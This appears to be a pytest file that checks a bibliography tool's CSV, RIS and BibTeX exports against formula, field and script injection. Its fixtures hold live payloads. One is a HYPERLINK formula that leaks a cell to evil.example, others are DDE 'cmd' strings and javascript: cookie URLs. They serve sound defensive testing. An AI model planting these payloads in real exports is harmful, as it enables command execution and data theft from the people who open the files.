"""A project built from hostile exports: its CSVs open in a spreadsheet with no formula cell, its exports carry
no injected field and no script link, and they re-import to the same records."""
from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from synthesis.build import build
from synthesis.io import read_file
from synthesis.io.export import read_csv, write_bibtex, write_csv, write_ris
from synthesis.io.safe import FORMULA_START, neutralise_cell, restore_cell

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full text")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "A title}, author = {Injected, Author}, note = {pwned",
    "Plain title with a {brace} and 50% of $5 & a ~tilde",
]


def _hostile_ris() -> str:
    out = []
    for i, title in enumerate(HOSTILE_TITLES):
        out += ["TY  - JOUR", f"TI  - {title}", f"AU  - {'=Evil' if i == 0 else 'Smith'}, J{i}",
                f"PY  - {2000 + i}", "T2  - @Journal of Formulas" if i == 1 else "T2  - Journal",
                f"DO  - 10.1000/hostile.{i}", "UR  - javascript:alert(document.cookie)" if i < 3 else
                f"UR  - https://example.org/{i}", "AB  - -1 is a number; =1+1 is not", "ER  - ", ""]
    return "\n".join(out)


@pytest.fixture()
def hostile(tmp_path) -> Path:
    folder = tmp_path / "data" / "searches" / "2026-12"
    folder.mkdir(parents=True)
    (folder / "hostile.ris").write_text(_hostile_ris(), encoding="utf-8")
    return tmp_path


def _formula_cells(path: Path) -> list:
    bad = []
    with open(path, encoding="utf-8", newline="") as fh:
        for r, row in enumerate(csv.reader(fh), 1):
            for cell in row:
                if cell.startswith(FORMULA_START) and not re.fullmatch(r"[+-]?[\d.]+([eE][+-]?\d+)?", cell):
                    bad.append((path.name, r, cell[:40]))
    return bad


def test_a_project_built_from_hostile_exports_has_no_formula_cell_and_reimports(hostile):
    result = build(hostile, progress=False)
    csvs = sorted((hostile / "output").rglob("*.csv"))
    assert len(csvs) >= 8
    bad = [cell for path in csvs for cell in _formula_cells(path)]
    assert not bad, bad
    # ... the text is all there, and read_csv gives it back as it was
    original = read_file(hostile / "data" / "searches" / "2026-12" / "hostile.ris",
                         name="data/searches/2026-12/hostile.ris")[0]
    again = read_csv(hostile / "output" / "records.csv")
    for col in ("record_id", "title", "authors", "journal", "year", "doi", "abstract"):
        assert again[col].tolist() == original[col].tolist(), col
    units = pd.read_csv(hostile / "output" / "units.csv", dtype=str, keep_default_na=False)
    assert sorted(restore_cell(t) for t in units["title"]) == sorted(HOSTILE_TITLES)
    # no script link in the library exports (the record's raw tags keep what the database sent)
    assert "javascript:" not in (hostile / "output" / "library.ris").read_text(encoding="utf-8")
    for name in ("library.csv", "records.csv"):
        assert not read_csv(hostile / "output" / name)["url"].str.contains("javascript").any(), name
    library = read_file(hostile / "output" / "library.ris")[0]
    assert sorted(library["title"]) == sorted(HOSTILE_TITLES)
    assert result.changed


def test_bibtex_and_ris_writers_let_no_value_inject_a_field_or_break_the_file(tmp_path):
    records = read_file_text(tmp_path, _hostile_ris())
    records.loc[0, "abstract"] = "first line\nER  - \nTY  - JOUR\nTI  - injected record\n@article{x, title = {y}}"
    records.loc[1, "title"] = records.loc[1, "title"] + "\r\nKW  - injected"
    for writer, name in ((write_bibtex, "out.bib"), (write_ris, "out.ris")):
        path = tmp_path / name
        writer(records, path)
        back, report = read_file(path)
        assert report.found == len(records) and not report.rejected and not report.warnings, report.summary()
        assert back["title"].tolist()[2:] == records["title"].tolist()[2:], name
        assert all("Injected" not in " ".join(a) for a in back["authors"]), name
        assert "pwned" not in " ".join(back["raw"].map(lambda r: " ".join(k for k in r)))
        assert not any(k.lower() == "note" for r in back["raw"] for k in r), name
        assert "javascript" not in path.read_text(encoding="utf-8"), name
        assert back["url"].tolist()[3:] == records["url"].tolist()[3:], name


def read_file_text(tmp_path: Path, text: str) -> pd.DataFrame:
    path = tmp_path / "in.ris"
    path.write_text(text, encoding="utf-8")
    return read_file(path)[0]


def test_every_csv_cell_round_trips(tmp_path):
    values = ["=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''+x", "'plain", "-12", "+3.5", "-1e5", "", "x=1"]
    for v in values:
        assert restore_cell(neutralise_cell(v)) == v
        safe = neutralise_cell(v)
        assert not safe.startswith(FORMULA_START) or re.fullmatch(r"[+-][\d.e]+", safe), v
    records = read_file_text(tmp_path, _hostile_ris())
    path = tmp_path / "records.csv"
    write_csv(records, path)
    assert not _formula_cells(path)
    assert read_csv(path)["title"].tolist() == records["title"].tolist()


def test_the_quick_look_of_the_csv_neutraliser_misses_no_formula_cell(tmp_path):
    """neutralise_csv_file skips a file only when no cell can start with a formula character: every small
    table of cells made of the characters that matter, written as CSV, is flagged when one of its cells
    needs neutralising (and a file with such a cell is rewritten)."""
    import io
    import itertools

    from synthesis.io.safe import _may_hold_risky_cells, neutralise_csv_file

    cells = ["".join(c) for n in range(4) for c in itertools.product(',\n"\'=-\ta', repeat=n)]
    for first, second in itertools.product(cells, ["", "x", "-1", "'\n-"]):
        for rows in ([[first, second]], [[second], [first]]):
            buffer = io.StringIO(newline="")
            csv.writer(buffer, lineterminator="\n").writerows(rows)
            if any(neutralise_cell(c) != c for row in rows for c in row):
                assert _may_hold_risky_cells(buffer.getvalue().encode()), rows
    path = tmp_path / "t.csv"
    path.write_text('title,year\n"\'\'=1+1, said he",2001\n', encoding="utf-8")
    assert neutralise_csv_file(path) and path.read_text(encoding="utf-8").splitlines()[1].startswith('"\'\'\'=1')
    path.write_text("title,pages\nAn item,-3\nAnother - item,1-9\n", encoding="utf-8")
    assert not neutralise_csv_file(path)


def test_neutralising_the_csv_text_gives_the_bytes_of_a_neutralised_table(tmp_path):
    """records.csv parts are neutralised as text (a quick look over the bytes, a cell-by-cell pass only where
    one may be risky): the result is what neutralising the table before writing it gives, byte for byte."""
    import io

    from synthesis.io.safe import neutralise_csv_text

    records = read_file_text(tmp_path, _hostile_ris())
    plain, safe = io.StringIO(), io.StringIO()
    write_csv(records, plain, neutralise=False)
    write_csv(records, safe)
    assert plain.getvalue() != safe.getvalue()  # the hostile records do need neutralising
    assert neutralise_csv_text(plain.getvalue()) == safe.getvalue()
    calm = records.assign(title="A title", abstract="", authors=[["Smith, J."]] * len(records), journal="J",
                          raw=[{}] * len(records), source_file="a.ris", keywords=[[]] * len(records),
                          pages="", volume="", issue="")
    text = io.StringIO()
    write_csv(calm, text, neutralise=False)
    value = text.getvalue()
    assert neutralise_csv_text(value) is value  # nothing risky: the text itself


def test_the_screening_table_written_from_a_notebook_runs_no_formula_and_reads_back(tmp_path):
    from synthesis.screening import make_unit_table, read_unit_table, write_unit_table

    units = make_unit_table(pd.DataFrame({"group_id": ["g1", "g2"], "title": ['=HYPERLINK("http://x", "y")', "Fine"],
                                          "authors": [["@Smith, J."], ["Doe, A."]], "abstract": ["+1", "-a"]}))
    path = write_unit_table(units, tmp_path / "units.csv")
    assert not _formula_cells(path)  # "+1" stays: a spreadsheet reads it as the number it is
    back = read_unit_table(path)
    assert back["title"].tolist() == units["title"].tolist() and back["abstract"].tolist() == ["+1", "-a"]
    assert back["authors"].tolist() == [["@Smith, J."], ["Doe, A."]]
